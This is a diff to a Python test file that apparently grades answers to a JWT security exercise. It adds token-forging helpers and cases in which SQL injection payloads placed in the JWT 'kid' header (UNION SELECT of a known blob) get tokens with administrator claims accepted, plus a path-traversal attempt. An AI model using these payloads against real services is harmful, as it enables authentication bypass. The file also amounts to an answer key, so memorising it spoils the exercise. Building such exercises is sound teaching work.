@@ -83,6 +83,19 @@ def _signs_with_the_hex_text(token: str) -> str:
     return hs256_by_hand({"alg": "HS256", "typ": "at+jwt", "kid": kid}, _admin(token), secret.hex().encode())
 
 
+def _kid_sql(kid_of, secret: bytes, signed_with: bytes | None = None, *, pyjwt: bool = False):
+    """A q2 answer: the kid ``kid_of(secret)``, the token signed with ``signed_with`` (the secret by default)."""
+    def forge(token: str) -> str:
+        key, header = secret if signed_with is None else signed_with, {"typ": "at+jwt", "kid": kid_of(secret)}
+        if pyjwt:
+            return jwt.encode(_admin(token), key, algorithm="HS256", headers=header)
+        return hs256_by_hand({"alg": "HS256", **header}, _admin(token), key)
+    return forge
+
+
+_RANDOM = secrets.token_bytes(32)
+
+
 # --- q3 ---------------------------------------------------------------------------------------------------------
 
 def _pem(jwk: dict) -> bytes:
@@ -192,9 +205,25 @@ CASES = [
     wrong(q1, "drops the kid", _kid_dropped, says=("401 (unknown key id)", "keep the kid")),
     right(q2, "union all and a lowercase 48-byte blob", _union_all_lowercase_blob),
     wrong(q2, "the demo's text secret", _the_demos_text_secret,
-          says=("does not select a secret of 32 bytes or more as a blob literal", "X'<its hex>'")),
+          says=("selects text (15 characters)", "X'<their hex>'")),
     wrong(q2, "signs with the hex text", _signs_with_the_hex_text,
           says=("401 (signature is invalid)", "bytes.fromhex")),
+    right(q2, "CAST of the blob, signed with PyJWT", _kid_sql(
+        lambda secret: f"x' UNION SELECT CAST(X'{secret.hex()}' AS BLOB) --", _RANDOM, pyjwt=True)),
+    right(q2, "a subquery and a block comment", _kid_sql(
+        lambda secret: f"none' UNION SELECT (SELECT X'{secret.hex().upper()}') /*", _RANDOM)),
+    right(q2, "from the keys table itself, limited to one row", _kid_sql(
+        lambda secret: f"none' UNION SELECT X'{secret.hex()}' FROM keys LIMIT 1 --", _RANDOM)),
+    wrong(q2, "randomblob: bytes the attacker never knows", _kid_sql(
+        lambda secret: "x' UNION SELECT randomblob(32) --", _RANDOM),
+          says=("401 (signature is invalid)", "not the one you signed with")),
+    wrong(q2, "sixteen bytes", _kid_sql(lambda secret: f"x' UNION SELECT X'{secret.hex()}' --", _RANDOM[:16]),
+          says="selects a secret of 16 bytes"),
+    wrong(q2, "two blobs joined with ||, which SQLite makes text", _kid_sql(
+        lambda secret: f"x' UNION SELECT X'{secret[:16].hex()}' || X'{secret[16:].hex()}' --", b"0123456789abcdef" * 2),
+          says="selects text (32 characters)"),
+    wrong(q2, "a path, not SQL", _kid_sql(lambda secret: "../../../../dev/null", b""),
+          says=("401 (unknown key id)", "close the quote")),
     right(q3, "the key from a PyJWKSet by kid", _key_from_pyjwkset),
     right(q3, "a header of its own naming the kid", _last_key),
     wrong(q3, "the first key of the set, as in the demo", _first_key,
